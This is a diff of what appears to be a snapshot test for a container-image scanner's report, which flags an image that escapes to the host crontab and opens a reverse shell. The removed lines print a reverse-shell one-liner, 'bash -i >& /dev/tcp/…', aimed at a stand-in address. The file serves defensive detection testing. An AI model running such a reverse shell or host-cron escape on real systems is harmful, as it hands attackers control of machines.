@@ -14,10 +14,9 @@ test('the page people see', () => {
     "  MALICIOUS   registry.example/someone/tomcat11:latest   linux/amd64   sha256:aaaaaaaaaaaa…
 
       If you run it:
-        ENTRYPOINT /bin/sh /run.sh                                                          layer 3  COPY file:4f in /run.sh
-        └─ adds a job to the HOST's crontab, through /mnt/etc (every minute): bash -i       run.sh:4  T1053.003 T1611
-           │  >& /dev/tcp/192.0.2.44/8443 0>&1
-           └─ hands an interactive bash to 192.0.2.44:8443 (reverse shell)                  run.sh:4  T1059.004
+        ENTRYPOINT /bin/sh /run.sh                                             layer 3  COPY file:4f in /run.sh
+        └─ adds a job to the HOST's crontab, through /mnt/etc (every minute)   run.sh:4  T1053.003 T1611
+           └─ hands an interactive bash to 192.0.2.44:8443 (reverse shell)     run.sh:4  T1059.004
         HEALTHCHECK /usr/bin/probe → the program /usr/bin/probe
 
       malicious  Adds a job to the host's crontab through /mnt/etc   host-cron  T1053.003  T1611
